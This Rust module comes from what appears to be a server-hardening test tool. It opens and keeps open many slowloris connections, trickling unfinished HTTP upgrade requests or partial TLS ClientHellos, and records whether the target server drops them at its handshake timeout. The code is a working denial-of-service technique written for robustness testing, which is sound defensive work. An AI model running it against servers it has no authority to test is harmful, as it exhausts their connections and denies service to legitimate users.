//! Slowloris: requests trickled a byte at a time and never finished. `slowloris` trickles an
//! upgrade request (inside TLS on wss), `tls-slowloris` the TLS ClientHello itself, all but its
//! last byte. The server owes no answer; it must drop each at its handshake timeout and serve
//! everyone else meanwhile.

use std::io::{self, Read, Write};
use std::thread;
use std::time::{Duration, Instant};

use crate::alert::{self, Answer};
use crate::kind::Kind;
use crate::outcome::{Outcome, Record};
use crate::stream::Stream;
use crate::target::{connect, connect_tcp, Target};
use crate::{tls, wire};

/// A byte per connection this often: far slower than any request, fast enough that a server
/// timing out on silence alone (not on the request's total time) would never drop it.
const TRICKLE: Duration = Duration::from_millis(250);

/// What each `slowloris` connection sends first: an unfinished request.
const OPENING: &[u8] = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: ";

/// One slowloris connection of `kind` until the server drops it or the handshake timeout
/// (plus the answer wait) passes.
pub fn one(kind: Kind, target: &Target) -> Outcome {
    let mut conn = match Trickle::open(kind, target) {
        Ok(conn) => conn,
        Err(e) => return Outcome::from_io(&e),
    };
    let give_up = conn.opened + target.handshake_timeout + target.answer_wait;
    while Instant::now() < give_up {
        if let Some(outcome) = conn.step() {
            return outcome;
        }
        thread::sleep(TRICKLE);
    }
    Outcome::Timeout
}

/// Keep `count` slowloris connections of `kind` open until `until`, opening a new one for each
/// the server drops, at most `max_total` in all.
pub fn hold(
    kind: Kind,
    target: &Target,
    count: usize,
    max_total: u64,
    until: Instant,
) -> Vec<Record> {
    let mut records = Vec::new();
    let mut open: Vec<Trickle> = Vec::with_capacity(count);
    let mut opened = 0u64;
    while Instant::now() < until {
        while open.len() < count && opened < max_total {
            opened += 1;
            match Trickle::open(kind, target) {
                Ok(conn) => open.push(conn),
                Err(e) => records.push(record(kind, Instant::now(), Outcome::from_io(&e))),
            }
        }
        open.retain_mut(|conn| match conn.step() {
            Some(outcome) => {
                records.push(record(kind, conn.opened, outcome));
                false
            }
            None => true,
        });
        thread::sleep(TRICKLE);
    }
    let overdue = target.handshake_timeout + target.answer_wait;
    records.extend(open.into_iter().map(|conn| {
        let outcome = if conn.opened.elapsed() > overdue {
            Outcome::Timeout
        } else {
            Outcome::OpenAtEnd
        };
        record(kind, conn.opened, outcome)
    }));
    records
}

fn record(kind: Kind, opened: Instant, outcome: Outcome) -> Record {
    Record {
        kind,
        outcome,
        lifetime: opened.elapsed(),
        queued_bytes: None,
    }
}

/// What a trickling connection sends, a byte per step, and how it reads an answer.
enum Drip {
    /// After [`OPENING`], an `a` each step for ever; an answer is an HTTP status.
    Http,
    /// A ClientHello's bytes, all but the last; an answer is a TLS alert record (plaintext:
    /// there are no keys yet), collected in `answer` until whole.
    Hello {
        hello: Vec<u8>,
        sent: usize,
        answer: Vec<u8>,
    },
}

impl Drip {
    fn next_byte(&self) -> Option<u8> {
        match self {
            Drip::Http => Some(b'a'),
            Drip::Hello { hello, sent, .. } => hello[..hello.len() - 1].get(*sent).copied(),
        }
    }

    fn sent_one(&mut self) {
        if let Drip::Hello { sent, .. } = self {
            *sent += 1;
        }
    }

    /// The outcome once `bytes` (just read) make an answer.
    fn answered(&mut self, bytes: &[u8]) -> Option<Outcome> {
        match self {
            Drip::Http => Some(match wire::parse_status(bytes) {
                Some(status) => Outcome::Http(status),
                None => Outcome::Error("answer is not HTTP".into()),
            }),
            Drip::Hello { answer, .. } => {
                answer.extend_from_slice(bytes);
                match alert::parse(answer) {
                    Answer::Alert(code) => Some(Outcome::TlsAlert(code)),
                    Answer::Partial => None,
                    Answer::Other => Some(Outcome::Error("answer is not a TLS alert".into())),
                }
            }
        }
    }
}

/// One trickling connection, non-blocking.
struct Trickle {
    stream: Stream,
    opened: Instant,
    drip: Drip,
}

impl Trickle {
    fn open(kind: Kind, target: &Target) -> io::Result<Trickle> {
        let opened = Instant::now();
        let (stream, drip) = if kind == Kind::TlsSlowloris {
            let config = target.tls.as_ref().ok_or_else(needs_wss)?;
            let hello = tls::client_hello(config)?;
            let drip = Drip::Hello {
                hello,
                sent: 0,
                answer: Vec::new(),
            };
            (Stream::Plain(connect_tcp(target)?), drip)
        } else {
            let mut stream = connect(target)?;
            stream.write_all(OPENING)?;
            (stream, Drip::Http)
        };
        stream.set_nonblocking(true)?;
        Ok(Trickle {
            stream,
            opened,
            drip,
        })
    }

    /// Read what the server said, if anything, then send the next byte. `Some` once over.
    fn step(&mut self) -> Option<Outcome> {
        let mut answer = [0u8; 512];
        match self.stream.read(&mut answer) {
            Ok(0) => return Some(Outcome::Eof),
            Ok(n) => return self.drip.answered(&answer[..n]),
            Err(e) if is_retry(&e) => {}
            Err(e) => return Some(Outcome::from_io(&e)),
        }
        let byte = self.drip.next_byte()?;
        match self.stream.write(&[byte]) {
            Ok(_) => {
                self.drip.sent_one();
                None
            }
            Err(e) if is_retry(&e) => None,
            Err(e) => Some(Outcome::from_io(&e)),
        }
    }
}

fn needs_wss() -> io::Error {
    io::Error::other("tls-slowloris needs a wss target (--wss)")
}

/// Nothing to read or no room yet, or a stop signal interrupted the call: try next step.
fn is_retry(e: &io::Error) -> bool {
    matches!(
        e.kind(),
        io::ErrorKind::WouldBlock | io::ErrorKind::Interrupted
    )
}
